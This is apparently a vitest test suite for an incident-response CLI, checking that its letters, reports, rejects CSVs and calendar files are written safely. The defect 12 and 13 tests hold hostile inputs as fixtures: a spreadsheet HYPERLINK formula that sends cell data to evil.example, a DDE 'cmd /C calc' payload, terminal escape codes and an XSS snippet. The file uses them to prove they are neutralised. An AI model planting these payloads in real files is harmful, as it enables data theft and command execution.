import { createHash } from 'node:crypto';
import { spawnSync } from 'node:child_process';
import { chmodSync, existsSync, lstatSync, mkdirSync, readFileSync, readdirSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import ICAL from 'ical.js';
import { beforeEach, describe, expect, it } from 'vitest';
import { BIN, irr, json, MINI, ROOT, tempDir } from '../helpers.js';
import { pgActorUrl, pgBackend, sharedDb, sqliteBackend, type Backend } from '../pg/backend.js';
import { pgAvailable } from '../pg/pg.js';

/**
 * Issue 10, data loss and output files (defects 1–6, 12, 13 and parts of 14 and 16), through the
 * real binary. One rule for every file irr writes: the target is checked before anything is
 * rendered or recorded; an existing file needs --force; never a symbolic link, a device, a FIFO,
 * a directory, the database or an input; written 0600 through a temporary in the same folder; the
 * event is recorded only once the file is in place.
 * On both backends (issue 15): output files are the same on a team server; what is about the
 * SQLite file itself (never written over, --db :memory:) stays SQLite-only, at the end.
 */

const sha256 = (s: string | Buffer) => createHash('sha256').update(s).digest('hex');
interface LogEntry { seq: number; type: string; payload: Record<string, unknown> }
const log = (db: string, id: string) => json<LogEntry[]>(irr(['log', id, '--json'], { db }));
const rendered = (db: string, id: string) => log(db, id).filter((e) => e.type === 'document.rendered');
const NOW = '2026-03-03T10:00:00Z';
const HEADER = 'name,email,postal_address,jurisdiction,language';
const noStack = (s: string) => expect(s).not.toMatch(/\n\s+at |internal error/);
const temps = (dir: string) => readdirSync(dir).filter((f) => f.endsWith('.tmp'));
/** IRR_DB for a process the test spawns itself: on the team server, the actor's own role (as irr() does). */
const login = (db: string) => (/^postgres(ql)?:\/\//.test(db) ? pgActorUrl(db, 'tester') : db);

/** An incident owing a GDPR Art 33 notice with every fact the letter needs. */
function incident(db: string, title = 'Payslips emailed to the wrong team'): string {
  const id = irr(['open', '--playbook', 'misdirected-communication', '--title', title, '--at', '2026-03-02T09:00:00Z'], { db }).stdout.trim();
  const facts: Record<string, string> = {
    detected_at: '2026-03-02T09:00:00Z', aware_at: '2026-03-02T11:00:00Z', entity_role: 'controller', subjects_by_jurisdiction: 'DE:40,FR:2',
    data_categories: 'financial,employment', subjects_total: '42', records_total: '42', confidentiality: 'known_recipients',
    breach_description: 'Payslips of 42 employees were emailed to the wrong internal list.', dpo_contact: 'Jane Roe, DPO, dpo@example.com',
    organisation_name: 'Example GmbH', likely_consequences: 'Colleagues could learn salaries.', measures_taken: 'Recipients confirmed deletion in writing.',
  };
  const r = irr(['fact', id, ...Object.entries(facts).map(([k, v]) => `${k}=${v}`), '--at', '2026-03-02T11:00:00Z'], { db });
  expect(r.code, r.stderr).toBe(0);
  return id;
}

/** The database of the backend under test: set by outputFlows, one per backend (each test opens its own incident). */
let database: () => string = () => join(tempDir(), 'irr.db');

function setup() {
  const dir = tempDir();
  const db = database();
  const id = incident(db);
  const csv = join(dir, 'r.csv');
  writeFileSync(csv, `${HEADER}\nAnn Lee,ann@example.com,,DE,en\nBo Li,,"2 High St, Leeds",GB,en\n`);
  return { dir, db, id, csv };
}

/** Run irr with its stdout on /dev/full (every write fails with ENOSPC), or closed. */
function toFull(args: readonly string[], db: string, redirect = '> /dev/full'): { code: number; stderr: string } {
  const r = spawnSync('bash', ['-c', `exec "$@" ${redirect}`, 'irr', process.execPath, BIN, ...args], {
    env: { ...process.env, IRR_DB: login(db), IRR_ACTOR: 'tester', IRR_DEBUG: '' }, cwd: ROOT, encoding: 'utf8',
  });
  return { code: r.status ?? -1, stderr: r.stderr };
}

/**
 * Run irr with `folder` on a small, private tmpfs (a real full disk): a mount namespace of its own
 * (`unshare -m` as root, `unshare -rm` otherwise), so nothing leaks into the host. The listing of
 * the folder after irr exits is printed after a marker line, since the mount dies with the
 * namespace. Fails, never skips, when the mechanism is not available.
 */
function onFullDisk(folder: string, sizeKiB: number, fill: boolean, args: readonly string[], db: string): { code: number; stdout: string; stderr: string; left: string[] } {
  const script = [
    'set -u',
    `mount -t tmpfs -o size=${sizeKiB}k,mode=0755 irr-test "$DIR" || { echo "cannot mount a tmpfs" >&2; exit 99; }`,
    fill ? 'dd if=/dev/zero of="$DIR/fill" bs=1k 2>/dev/null; true' : 'true',
    '"$NODE" "$BIN" "$@"; rc=$?',
    'echo "::left"; ls -A "$DIR"; exit $rc',
  ].join('\n');
  const ns = process.getuid?.() === 0 ? ['-m'] : ['-r', '-m'];
  const r = spawnSync('unshare', [...ns, 'bash', '-c', script, 'irr', ...args], {
    env: { ...process.env, DIR: folder, NODE: process.execPath, BIN, IRR_DB: login(db), IRR_ACTOR: 'tester', IRR_DEBUG: '' }, cwd: ROOT, encoding: 'utf8',
  });
  expect(r.status, `a private tmpfs is needed for this test: ${r.stderr}`).not.toBe(99);
  expect(r.error, 'unshare(1) is needed for this test').toBeUndefined();
  const [stdout, listing = ''] = r.stdout.split('::left\n');
  return { code: r.status ?? -1, stdout: stdout!, stderr: r.stderr, left: listing.split('\n').filter((l) => l !== '' && l !== 'fill') };
}

function outputFlows(backend: Backend): void {
describe(`output files (${backend.name})`, () => {
  const shared = sharedDb(backend);
  // Each describe of a file runs its tests after every describe is collected: set the database per test.
  beforeEach(() => {
    database = shared;
  });
describe('defect 1: a merge that could not be written is never reported or recorded', { timeout: 60_000 }, () => {
  it('--out in a folder that does not exist: exit 2 naming --out and the folder, nothing recorded, no file', () => {
    const { dir, db, id, csv } = setup();
    const before = log(db, id).length;
    const out = join(dir, 'nodir', 'm.ndjson');
    const r = irr(['letters', id, 'gdpr-art33', '--recipients', csv, '--out', out, '--now', NOW], { db });
    expect(r.code).toBe(2);
    expect(r.stdout).toBe('');
    expect(r.stderr.trim()).toBe(`irr: --out: cannot write ${out}: the folder ${join(dir, 'nodir')} does not exist`);
    expect(log(db, id).length).toBe(before);
    expect(existsSync(out)).toBe(false);
    expect(temps(dir)).toEqual([]);
  });

  it('directory mode on a full disk: exit 2 with ENOSPC, no letter, no temporary, nothing recorded', () => {
    const { dir, db, id } = setup();
    const csv = join(dir, 'many.csv');
    writeFileSync(csv, `${HEADER}\n${Array.from({ length: 200 }, (_, i) => `Person ${i},p${i}@example.com,,DE,en`).join('\n')}\n`);
    const disk = join(dir, 'disk');
    mkdirSync(disk);
    const before = log(db, id).length;
    const r = onFullDisk(disk, 64, false, ['letters', id, 'gdpr-art33', '--recipients', csv, '--out', join(disk, 'out'), '--now', NOW], db);
    expect(r.code, r.stderr).toBe(2);
    expect(r.stdout).toBe('');
    expect(r.stderr).toMatch(/^irr: --out: cannot write .*\/out\/letter-\d{7}\.md \(ENOSPC: no space left on device\); nothing was recorded\n$/);
    expect(r.left).toEqual([]);
    expect(log(db, id).length).toBe(before);
  });

  it('an .ndjson merge on a full disk: exit 2 with ENOSPC, no temporary, nothing recorded', () => {
    const { dir, db, id } = setup();
    const csv = join(dir, 'many.csv');
    writeFileSync(csv, `${HEADER}\n${Array.from({ length: 200 }, (_, i) => `Person ${i},p${i}@example.com,,DE,en`).join('\n')}\n`);
    const disk = join(dir, 'disk');
    mkdirSync(disk);
    const before = log(db, id).length;
    const r = onFullDisk(disk, 64, false, ['letters', id, 'gdpr-art33', '--recipients', csv, '--out', join(disk, 'm.ndjson'), '--now', NOW], db);
    expect(r.code, r.stderr).toBe(2);
    expect(r.stderr.trim()).toBe(`irr: --out: cannot write ${join(disk, 'm.ndjson')} (ENOSPC: no space left on device); nothing was recorded`);
    expect(r.left).toEqual([]);
    expect(log(db, id).length).toBe(before);
  });
});

describe('defect 2: --rejects never overwrites the database, an input, a file or a link target', { timeout: 60_000 }, () => {
  const BAD = `${HEADER}\nAnn Lee,ann@example.com,,Germany,en\n`;

  it('refuses --rejects on --recipients, on an existing file and on a symbolic link; each unchanged', { timeout: 120_000 }, () => {
    const { dir, db, id } = setup();
    const csv = join(dir, 'bad.csv');
    writeFileSync(csv, BAD);
    const existing = join(dir, 'old.csv');
    writeFileSync(existing, 'keep me\n');
    const victim = join(dir, 'victim.txt');
    writeFileSync(victim, 'do not touch\n');
    const link = join(dir, 'link.csv');
    symlinkSync(victim, link);
    const before = log(db, id).length;
    const cases: [string, string][] = [
      [csv, `irr: --rejects: ${csv} is the --recipients input; irr never writes over it`],
      [existing, `irr: --rejects: ${existing} already exists; give --force to replace it, or a new name`],
      [link, `irr: --rejects: ${link} is a symbolic link; irr never writes through one (give the real path)`],
    ];
    for (const [rejects, message] of cases) {
      const r = irr(['letters', id, 'gdpr-art33', '--recipients', csv, '--out', join(dir, `o${cases.findIndex((c) => c[0] === rejects)}.ndjson`), '--rejects', rejects, '--now', NOW], { db });
      expect(r.code, rejects).toBe(2);
      expect(r.stderr.trim()).toBe(message);
    }
    expect(readFileSync(csv, 'utf8')).toBe(BAD);
    expect(readFileSync(existing, 'utf8')).toBe('keep me\n');
    expect(readFileSync(victim, 'utf8')).toBe('do not touch\n');
    expect(lstatSync(link).isSymbolicLink()).toBe(true);
    expect(log(db, id).length).toBe(before);
    expect(irr(['verify', id], { db }).code).toBe(0);
    // --force replaces an existing rejects file, written 0600.
    const f = irr(['letters', id, 'gdpr-art33', '--recipients', csv, '--out', join(dir, 'f.ndjson'), '--rejects', existing, '--force', '--now', NOW], { db });
    expect(f.code, f.stderr).toBe(0);
    expect(readFileSync(existing, 'utf8')).toMatch(/^line,reason,name/);
    expect(statSync(existing).mode & 0o777).toBe(0o600);
    expect(temps(dir)).toEqual([]);
  });
});

describe('defect 4: one rule for every output file', { timeout: 60_000 }, () => {
  it('letter and report refuse an existing file unless --force, and write 0600', { timeout: 60_000 }, () => {
    const { dir, db, id } = setup();
    const out = join(dir, 'notice.md');
    writeFileSync(out, 'an earlier notice\n');
    const before = log(db, id).length;
    for (const args of [['letter', id, 'gdpr-art33', '--out', out, '--now', NOW], ['report', id, '--kind', 'timeline', '--out', out, '--now', NOW], ['drill', 'report', id, '--out', out]]) {
      const r = irr(args, { db });
      expect(r.code, args.join(' ')).toBe(2);
      expect(r.stderr.trim()).toBe(`irr: --out: ${out} already exists; give --force to replace it, or a new name`);
    }
    expect(readFileSync(out, 'utf8')).toBe('an earlier notice\n');
    expect(log(db, id).length).toBe(before);
    const f = irr(['letter', id, 'gdpr-art33', '--out', out, '--force', '--now', NOW], { db });
    expect(f.code, f.stderr).toBe(0);
    const text = readFileSync(out, 'utf8');
    expect(rendered(db, id).at(-1)!.payload.sha256).toBe(sha256(text));
    expect(statSync(out).mode & 0o777).toBe(0o600);
    const rep = join(dir, 'timeline.md');
    expect(irr(['report', id, '--kind', 'timeline', '--out', rep, '--now', NOW], { db }).code).toBe(0);
    expect(statSync(rep).mode & 0o777).toBe(0o600);
    expect(temps(dir)).toEqual([]);
  });

  it('never writes onto a FIFO, a directory or a symbolic link, even with --force', { timeout: 60_000 }, () => {
    const { dir, db, id } = setup();
    const fifo = join(dir, 'pipe');
    expect(spawnSync('mkfifo', [fifo]).status).toBe(0);
    const victim = join(dir, 'victim.txt');
    writeFileSync(victim, 'do not touch\n');
    const link = join(dir, 'link.md');
    symlinkSync(victim, link);
    const folder = join(dir, 'folder');
    mkdirSync(folder);
    const before = log(db, id).length;
    const cases: [string, string][] = [
      [fifo, `irr: --out: ${fifo} is a FIFO, not a regular file; irr writes only regular files`],
      [folder, `irr: --out: ${folder} is a directory, not a regular file; irr writes only regular files`],
      [link, `irr: --out: ${link} is a symbolic link; irr never writes through one (give the real path)`],
    ];
    for (const [out, message] of cases) {
      for (const cmd of [['letter', id, 'gdpr-art33', '--now', NOW], ['report', id, '--kind', 'executive', '--now', NOW]]) {
        const r = irr([...cmd, '--out', out, '--force'], { db });
        expect(r.code, `${cmd[0]} ${out}`).toBe(2);
        expect(r.stderr.trim()).toBe(message);
      }
    }
    expect(lstatSync(fifo).isFIFO()).toBe(true);
    expect(lstatSync(link).isSymbolicLink()).toBe(true);
    expect(readFileSync(victim, 'utf8')).toBe('do not touch\n');
    expect(readdirSync(folder)).toEqual([]);
    expect(log(db, id).length).toBe(before);
    expect(irr(['verify', id], { db }).code).toBe(0);
  });
});

describe('defect 5: a result that could not be printed is said so, never a stack trace, never a silent duplicate', { timeout: 60_000 }, () => {
  it('note > /dev/full: committed, one line naming the seq, exit 6; the retry is refused (exit 3) unless --again', () => {
    const { db, id } = setup();
    const r = toFull(['note', id, 'Called', 'the', 'DPO'], db);
    expect(r.code).toBe(6);
    const notes = log(db, id).filter((e) => e.type === 'note.added');
    expect(notes).toHaveLength(1);
    const seq = notes[0]!.seq;
    expect(r.stderr.trim()).toBe(`irr: note.added recorded as ${id}#${seq}, but stdout could not be written: ENOSPC: no space left on device`);
    const retry = irr(['note', id, 'Called', 'the', 'DPO'], { db });
    expect(retry.code).toBe(3);
    expect(retry.stderr.trim()).toBe(`irr: note: this is your last note on ${id} (seq ${seq}), word for word; it is recorded already (give --again to add it a second time)`);
    expect(log(db, id).filter((e) => e.type === 'note.added')).toHaveLength(1);
    expect(irr(['note', id, 'Called', 'the', 'DPO', '--again'], { db }).code).toBe(0);
    expect(irr(['note', id, 'Another', 'note'], { db }).code).toBe(0);
    expect(log(db, id).filter((e) => e.type === 'note.added')).toHaveLength(3);
  });

  it('a pipe closed by its reader: a recorded note says so (exit 6); a read command stays quiet', async () => {
    const { db, id } = setup();
    const { spawn } = await import('node:child_process');
    const closedPipe = (args: readonly string[]) =>
      new Promise<{ code: number | null; stderr: string }>((resolve) => {
        const child = spawn(process.execPath, [BIN, ...args], { env: { ...process.env, IRR_DB: login(db), IRR_ACTOR: 'tester', IRR_DEBUG: '' } });
        child.stdout.destroy(); // the reader is gone before irr writes a byte
        let stderr = '';
        child.stderr.on('data', (d) => (stderr += d));
        child.on('close', (code) => resolve({ code, stderr }));
      });
    const r = await closedPipe(['note', id, 'Reader', 'gone']);
    const seq = log(db, id).filter((e) => e.type === 'note.added').at(-1)!.seq;
    expect(r.code).toBe(6);
    expect(r.stderr.trim()).toBe(`irr: note.added recorded as ${id}#${seq}, but stdout could not be written: EPIPE`);
    const quiet = await closedPipe(['log', id]);
    expect(quiet).toEqual({ code: 0, stderr: '' });
  });

  it('letter to a full stdout records nothing; report, log and status say so in one line (exit 6)', () => {
    const { db, id } = setup();
    const before = log(db, id).length;
    const l = toFull(['letter', id, 'gdpr-art33', '--now', NOW], db);
    expect(l.code).toBe(6);
    expect(l.stderr.trim()).toBe('irr: stdout could not be written: ENOSPC: no space left on device; nothing was recorded');
    expect(log(db, id).length).toBe(before);
    for (const args of [['report', id, '--kind', 'timeline', '--now', NOW], ['log', id], ['status', id], ['status', id, '--json']]) {
      const r = toFull(args, db);
      expect(r.code, args.join(' ')).toBe(6);
      expect(r.stderr.trim()).toBe('irr: stdout could not be written: ENOSPC: no space left on device; nothing was recorded');
    }
    expect(log(db, id).length).toBe(before);
  });
});

describe('defect 6: no personal data left in temporary files', { timeout: 60_000 }, () => {
  it('a letter on a full disk leaves no temporary file and records nothing', () => {
    const { dir, db, id } = setup();
    const disk = join(dir, 'disk');
    mkdirSync(disk);
    const before = log(db, id).length;
    const r = onFullDisk(disk, 16, true, ['letter', id, 'gdpr-art33', '--out', join(disk, 'n.md'), '--now', NOW], db);
    expect(r.code, r.stderr).toBe(2);
    expect(r.stderr.trim()).toBe(`irr: --out: cannot write ${join(disk, 'n.md')} (ENOSPC: no space left on device); nothing was recorded`);
    expect(r.left).toEqual([]);
    expect(log(db, id).length).toBe(before);
  });

  it('a temporary left by a killed irr (dead pid) is swept the next time irr writes there, and said so', () => {
    const { dir, db, id, csv } = setup();
    // A process that has exited: its pid is free (a recognisable temporary of a dead irr).
    const dead = spawnSync(process.execPath, ['-e', 'process.stdout.write(String(process.pid))'], { encoding: 'utf8' }).stdout;
    const stale = join(dir, `.irr-${dead}-0123456789ab.tmp`);
    writeFileSync(stale, 'Ann Lee,ann@example.com\n');
    const alive = join(dir, `.irr-${process.pid}-0123456789ab.tmp`);
    writeFileSync(alive, 'a running irr is writing this\n');
    const r = irr(['letters', id, 'gdpr-art33', '--recipients', csv, '--out', join(dir, 'm.ndjson'), '--now', NOW], { db });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toContain(`irr: removed 1 temporary file left in ${dir} by an interrupted irr`);
    expect(existsSync(stale)).toBe(false);
    expect(existsSync(alive)).toBe(true);
  });

  it('SIGTERM during a merge removes the temporary and records nothing', async () => {
    const { dir, db, id } = setup();
    const csv = join(dir, 'big.csv');
    writeFileSync(csv, `${HEADER}\n${Array.from({ length: 20_000 }, (_, i) => `Person ${i},p${i}@example.com,,DE,en`).join('\n')}\n`);
    const before = log(db, id).length;
    const { spawn } = await import('node:child_process');
    const child = spawn(process.execPath, [BIN, 'letters', id, 'gdpr-art33', '--recipients', csv, '--out', join(dir, 'm.ndjson'), '--now', NOW], { env: { ...process.env, IRR_DB: login(db), IRR_ACTOR: 'tester' } });
    let stderr = '';
    child.stderr.on('data', (d) => (stderr += d));
    // Wait until the temporary exists, then stop the merge.
    for (let i = 0; i < 400 && temps(dir).length === 0; i++) await new Promise((r) => setTimeout(r, 10));
    expect(temps(dir).length).toBe(1);
    child.kill('SIGTERM');
    const code = await new Promise<number | null>((r) => child.on('close', (c) => r(c)));
    expect(code).toBe(143);
    expect(stderr.trim()).toBe('irr: interrupted (SIGTERM); temporary files removed, nothing was recorded');
    expect(temps(dir)).toEqual([]);
    expect(existsSync(join(dir, 'm.ndjson'))).toBe(false);
    expect(log(db, id).length).toBe(before);
  });
});

describe('defect 12: the rejects CSV cannot carry a formula or a control character', { timeout: 60_000 }, () => {
  it('neutralises =, +, -, @, tab and CR prefixes, escapes control characters, and never echoes a raw ESC', () => {
    const { dir, db, id } = setup();
    const csv = join(dir, 'hostile.csv');
    const rows = [
      '"=HYPERLINK(""http://evil.example/?x=""&A1;""click"")",a@example.com,,Nowhere,en',
      '+cmd|\' /C calc\'!A0,b@example.com,,Nowhere,en',
      '-2+3,c@example.com,,Nowhere,en',
      '@SUM(1+1),d@example.com,,Nowhere,en',
      '"\tTabbed",e@example.com,,Nowhere,en',
      '"\rReturn",f@example.com,,Nowhere,en',
      'Esc\u001b[31mRed,g@example.com,,DE,en',
      'Fine Name,h@example.com,,\u001b]0;pwned\u0007,en',
    ];
    writeFileSync(csv, `${HEADER}\n${rows.join('\n')}\n`);
    const r = irr(['letters', id, 'gdpr-art33', '--recipients', csv, '--out', join(dir, 'm.ndjson'), '--now', NOW], { db });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout + r.stderr).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f]/);
    const text = readFileSync(join(dir, 'm.rejects.csv'), 'utf8');
    expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f]/);
    // Parse it back as a spreadsheet would: no cell may start with a formula character.
    const cells = parseCsv(text, { relax_column_count: true }) as string[][];
    expect(cells).toHaveLength(rows.length + 1);
    for (const row of cells) for (const cell of row) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
    expect(cells[1]![2]).toBe('\'=HYPERLINK("http://evil.example/?x="&A1;"click")');
    expect(cells[3]![2]).toBe("'-2+3");
    expect(cells[7]![2]).toBe('Esc\\x1b[31mRed');
    expect(statSync(join(dir, 'm.rejects.csv')).mode & 0o777).toBe(0o600);
  });
});

describe('defect 13: the calendar is private, never follows a link, and carries plain text', { timeout: 60_000 }, () => {
  function clocksIncident() {
    const dir = tempDir();
    const db = database();
    const id = incident(db, '<b>Payslips</b> <a href="http://evil.example">sent</a> <img src=x onerror=alert(1)>');
    return { dir, db, id };
  }

  it('writes the ICS 0600, refuses a symbolic link and an existing file without --force, DESCRIPTION without markup', () => {
    const { dir, db, id } = clocksIncident();
    const ics = join(dir, 'deadlines.ics');
    const r = irr(['clocks', id, '--now', NOW, '--ics', ics], { db });
    expect(r.code, r.stderr).toBe(0);
    expect(statSync(ics).mode & 0o777).toBe(0o600);
    const cal = new ICAL.Component(ICAL.parse(readFileSync(ics, 'utf8')));
    const events = cal.getAllSubcomponents('vevent');
    expect(events.length).toBeGreaterThan(0);
    for (const e of events) {
      const d = String(e.getFirstPropertyValue('description'));
      expect(d).toContain('Payslips');
      expect(d).not.toMatch(/[<>]/);
      expect(e.getFirstProperty('x-alt-desc')).toBeNull();
    }
    const again = irr(['clocks', id, '--now', NOW, '--ics', ics], { db });
    expect(again.code).toBe(2);
    expect(again.stderr.trim()).toBe(`irr: --ics: ${ics} already exists; give --force to replace it, or a new name`);
    expect(irr(['clocks', id, '--now', NOW, '--ics', ics, '--force'], { db }).code).toBe(0);
    const victim = join(dir, 'victim.txt');
    writeFileSync(victim, 'do not touch\n');
    chmodSync(victim, 0o644);
    const link = join(dir, 'link.ics');
    symlinkSync(victim, link);
    const l = irr(['clocks', id, '--now', NOW, '--ics', link, '--force'], { db });
    expect(l.code).toBe(2);
    expect(l.stderr.trim()).toBe(`irr: --ics: ${link} is a symbolic link; irr never writes through one (give the real path)`);
    expect(readFileSync(victim, 'utf8')).toBe('do not touch\n');
    expect(statSync(victim).mode & 0o777).toBe(0o644);
  });
});

describe('defect 14: output problems are found before anything is recorded', { timeout: 60_000 }, () => {
  it('letters --rejects in a missing folder: exit 2 naming --rejects, no event, no temporary, no output', () => {
    const { dir, db, id } = setup();
    const csv = join(dir, 'bad.csv');
    writeFileSync(csv, `${HEADER}\nAnn Lee,ann@example.com,,Germany,en\nBo Li,bo@example.com,,DE,en\n`);
    const before = log(db, id).length;
    const rejects = join(dir, 'nodir', 'r.csv');
    const r = irr(['letters', id, 'gdpr-art33', '--recipients', csv, '--out', join(dir, 'm.ndjson'), '--rejects', rejects, '--now', NOW], { db });
    expect(r.code).toBe(2);
    expect(r.stderr.trim()).toBe(`irr: --rejects: cannot write ${rejects}: the folder ${join(dir, 'nodir')} does not exist`);
    expect(log(db, id).length).toBe(before);
    expect(existsSync(join(dir, 'm.ndjson'))).toBe(false);
    expect(temps(dir)).toEqual([]);
  });

  it('letter --out an existing directory: exit 2, nothing recorded', () => {
    const { dir, db, id } = setup();
    const before = log(db, id).length;
    const r = irr(['letter', id, 'gdpr-art33', '--out', dir, '--now', NOW], { db });
    expect(r.code).toBe(2);
    expect(r.stderr.trim()).toBe(`irr: --out: ${dir} is a directory, not a regular file; irr writes only regular files`);
    noStack(r.stderr);
    expect(log(db, id).length).toBe(before);
  });
});

describe('defect 16: messages that say what is wrong', { timeout: 60_000 }, () => {
  it('--recipients /dev/null or a directory says what it is', () => {
    const { dir, db, id } = setup();
    const a = irr(['letters', id, 'gdpr-art33', '--recipients', '/dev/null', '--out', join(dir, 'a.ndjson'), '--now', NOW], { db });
    expect(a.code).toBe(2);
    expect(a.stderr.trim()).toBe('irr: --recipients: /dev/null is a device, not a CSV file');
    const b = irr(['letters', id, 'gdpr-art33', '--recipients', dir, '--out', join(dir, 'b.ndjson'), '--now', NOW], { db });
    expect(b.code).toBe(2);
    expect(b.stderr.trim()).toBe(`irr: --recipients: ${dir} is a directory, not a CSV file`);
    const c = irr(['letters', id, 'gdpr-art33', '--recipients', join(dir, 'none.csv'), '--out', join(dir, 'c.ndjson'), '--now', NOW], { db });
    expect(c.code).toBe(2);
    expect(c.stderr.trim()).toBe(`irr: --recipients: cannot read ${join(dir, 'none.csv')} (no such file)`);
  });

  it('drill run --report in a missing folder: exit 2 naming --report, and no drill recorded', () => {
    const dir = tempDir();
    const db = database();
    expect(irr(['init'], { db }).code).toBe(0);
    const before = backend.eventCount(db);
    const report = join(dir, 'nodir', 'aar.md');
    const r = irr(['drill', 'run', 'ransomware-eu-us', '--script', join(ROOT, 'playbooks/drills/scripts/ransomware-eu-us.meets-all.yaml'), '--report', report], { db });
    expect(r.code).toBe(2);
    expect(r.stderr.trim()).toBe(`irr: --report: cannot write ${report}: the folder ${join(dir, 'nodir')} does not exist`);
    expect(backend.eventCount(db)).toBe(before);
  });

  it('drill run --report on a full disk: the message says the drill is recorded and how to get its report', () => {
    const dir = tempDir();
    const db = database();
    const disk = join(dir, 'disk');
    mkdirSync(disk);
    type Listed = { id: string };
    const earlier = new Set(json<Listed[]>(irr(['list', '--all', '--json'], { db })).map((x) => x.id));
    const r = onFullDisk(disk, 16, true, ['drill', 'run', 'ransomware-eu-us', '--script', join(ROOT, 'playbooks/drills/scripts/ransomware-eu-us.meets-all.yaml'), '--report', join(disk, 'aar.md')], db);
    expect(r.code, r.stderr).toBe(2);
    const drills = json<Listed[]>(irr(['list', '--all', '--json'], { db })).filter((x) => !earlier.has(x.id));
    expect(drills).toHaveLength(1);
    const id = drills[0]!.id;
    expect(r.stderr.trim()).toBe(`irr: --report: cannot write ${join(disk, 'aar.md')} (ENOSPC: no space left on device); the drill ${id} is recorded: write its report with irr drill report ${id} --out <file>`);
    expect(r.left).toEqual([]);
  });
});
});
}

outputFlows(sqliteBackend);
if (pgAvailable(import.meta.filename, 19)) outputFlows(pgBackend);

describe('the SQLite database file is never an output (SQLite only)', { timeout: 60_000 }, () => {
  beforeEach(() => {
    database = () => join(tempDir(), 'irr.db');
  });

  // SQLite only: the database is a file (and its -wal, and any hard link to it) a path could name; a server's is not.
  it('refuses --rejects on the database, its write-ahead log and a hard link to it; the database unchanged', () => {
    const { dir, db, id } = setup();
    const csv = join(dir, 'bad.csv');
    writeFileSync(csv, `${HEADER}\nAnn Lee,ann@example.com,,Germany,en\n`);
    const before = sqliteBackend.eventCount(db);
    const hard = join(dir, 'hard.db');
    expect(spawnSync('ln', [db, hard]).status).toBe(0);
    const cases: [string, string, string[]][] = [
      [db, `irr: --rejects: ${db} is the database (--db ${db}); irr never writes over it`, []],
      [`${db}-wal`, `irr: --rejects: ${db}-wal is the database (--db ${db}); irr never writes over it`, []],
      [hard, `irr: --rejects: ${hard} is the database (--db ${db}); irr never writes over it`, ['--force']],
    ];
    for (const [rejects, message, extra] of cases) {
      const r = irr(['letters', id, 'gdpr-art33', '--recipients', csv, '--out', join(dir, 'o.ndjson'), '--rejects', rejects, ...extra, '--now', NOW], { db });
      expect(r.code, rejects).toBe(2);
      expect(r.stderr.trim()).toBe(message);
    }
    expect(sqliteBackend.eventCount(db)).toBe(before);
    expect(irr(['verify', id], { db }).code).toBe(0);
    expect(existsSync(join(dir, 'o.ndjson'))).toBe(false);
  });

  // SQLite only: as above, the database is a file --out could name.
  it('letter and report --out the database are refused even with --force', () => {
    const { db, id } = setup();
    const before = sqliteBackend.eventCount(db);
    for (const cmd of [['letter', id, 'gdpr-art33', '--now', NOW], ['report', id, '--kind', 'executive', '--now', NOW]]) {
      const r = irr([...cmd, '--out', db, '--force'], { db });
      expect(r.code, cmd[0]).toBe(2);
      expect(r.stderr.trim()).toBe(`irr: --out: ${db} is the database (--db ${db}); irr never writes over it`);
    }
    expect(sqliteBackend.eventCount(db)).toBe(before);
    expect(irr(['verify', id], { db }).code).toBe(0);
  });
});

// SQLite only: about --db naming something that is not a file; a server's database is a URL.
describe('defect 3: a database that is not a file is refused', { timeout: 60_000 }, () => {
  it('--db :memory: and an empty --db: exit 2 in one line, nothing acknowledged', () => {
    const cwd = tempDir();
    for (const db of [':memory:', '']) {
      for (const args of [['init'], ['open', '--playbook', MINI, '--title', 'x'], ['list']]) {
        const r = irr(['--db', db, ...args], { cwd });
        expect(r.code, `${db} ${args[0]}`).toBe(2);
        expect(r.stdout).toBe('');
        expect(r.stderr.trim()).toBe(`irr: --db: "${db}" is not a database file; irr keeps its log in a file (give a path such as ./irr.db)`);
      }
    }
    expect(readdirSync(cwd)).toEqual([]);
  });
});
